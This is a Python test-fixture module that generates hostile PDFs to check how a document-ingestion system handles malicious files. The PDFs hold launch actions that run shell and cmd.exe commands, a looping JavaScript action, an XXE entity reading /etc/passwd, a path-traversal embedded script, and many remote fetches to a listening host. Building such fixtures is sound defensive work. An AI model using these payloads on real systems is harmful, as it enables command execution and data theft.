"""Files made to harm who reads them: each kind by its name, made anew when asked for.

What they do to Octavo is told by tests/integration/test_hostile_pdfs.py; docs/adr/0049 says how
kinds were chosen.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping

from rag.testing.hostile_contents import CONTENTS, HIDDEN_WORD
from rag.testing.hostile_structures import STRUCTURES
from rag.testing.raw_pdf import page_pdf, shown, stream

__all__ = ["HIDDEN_WORD", "hostile_pdfs", "hostile_remotes"]


def hostile_pdfs() -> dict[str, Callable[[], bytes]]:
    """Makers of all files that need nobody else, by what is wrong in them."""
    return {**STRUCTURES, **CONTENTS}


def hostile_remotes(address: str) -> dict[str, bytes]:
    """Files that ask their reader to start programs, or to fetch something of `address`.

    Args:
        address: host and port that will notice who comes.
    """
    host = address.split(":")[0]
    made = {name: _acting(action) for name, action in _actions(address, host).items()}
    made["remote-content"] = page_pdf(
        None,
        objects={
            4: b"<< /Length 0 /F << /FS /URL /F (http://%s/content) >> >>\nstream\n\nendstream"
            % address.encode()
        },
    )
    made["remote-picture"] = page_pdf(
        _LINE + b"q 99 0 0 99 99 99 cm /I Do Q",
        resources="/XObject << /I 10 0 R >>",
        objects={
            10: stream(
                b"",
                "/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray "
                f"/BitsPerComponent 8 /F << /FS /URL /F (http://{address}/picture) >> "
                "/FFilter /DCTDecode",
            )
        },
    )
    made["remote-form"] = page_pdf(
        _LINE + b"/X Do",
        resources="/XObject << /X 10 0 R >>",
        objects={
            10: stream(
                b"",
                "/Type /XObject /Subtype /Form /BBox [0 0 99 99] "
                f"/Ref << /F << /FS /URL /F (http://{address}/form.pdf) >> /Page 0 >>",
            )
        },
    )
    made["remote-xfa"] = page_pdf(
        _LINE,
        catalog="/AcroForm << /Fields [] /XFA 10 0 R >>",
        objects={10: stream(_xfa(address))},
    )
    made["remote-embedded-file"] = page_pdf(
        _LINE,
        catalog="/Names << /EmbeddedFiles << /Names [(../../evil.sh) 10 0 R] >> >>",
        objects={
            10: b"<< /Type /Filespec /F (../../evil.sh) /UF (../../evil.sh) /EF << /F 11 0 R >> >>",
            11: stream(b"#!/bin/sh\ntouch /tmp/owned\n", "/Type /EmbeddedFile"),
        },
    )
    return made


_LINE = shown("A line that is there.")


def _actions(address: str, host: str) -> Mapping[str, str]:
    url = f"http://{address}"
    return {
        "launch-program": "/S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'touch owned') >>",
        "launch-on-windows": "/S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >>",
        "javascript": f"/S /JavaScript /JS (app.launchURL\\('{url}/js'\\); while \\(true\\) {{}})",
        "remote-uri": f"/S /URI /URI ({url}/uri)",
        "remote-share": rf"/S /GoToR /F (\\\\{host}\\share\\file.pdf) /D [0 /Fit]",
        "remote-goto": f"/S /GoToR /F << /FS /URL /F ({url}/goto.pdf) >> /D [0 /Fit]",
        "remote-goto-embedded": f"/S /GoToE /F ({url}/gotoe.pdf) /D [0 /Fit] /T << /R /C >>",
        "remote-submit": f"/S /SubmitForm /F << /FS /URL /F ({url}/submit) >> /Flags 4",
        "remote-import": f"/S /ImportData /F << /FS /URL /F ({url}/import.fdf) >>",
        "actions-in-a-ring": "/S /Named /N /NextPage /Next 10 0 R",
    }


def _acting(action: str) -> bytes:
    """At opening, on the page, at a link, and when the file is closed."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A 10 0 R /AA << /PV 10 0 R >> >>"
    return page_pdf(
        _LINE,
        catalog="/OpenAction 10 0 R /AA << /WC 10 0 R /DS 10 0 R >>",
        page="/AA << /O 10 0 R /C 10 0 R >> /Annots [11 0 R]",
        objects={10: f"<< /Type /Action {action} >>".encode(), 11: link},
    )


def _xfa(address: str) -> bytes:
    return (
        '<?xml version="1.0"?><!DOCTYPE xdp [<!ENTITY x SYSTEM "file:///etc/passwd"> '
        f'<!ENTITY y SYSTEM "http://{address}/xfa">]>'
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&x;&y;</template></xdp:xdp>'
    ).encode()
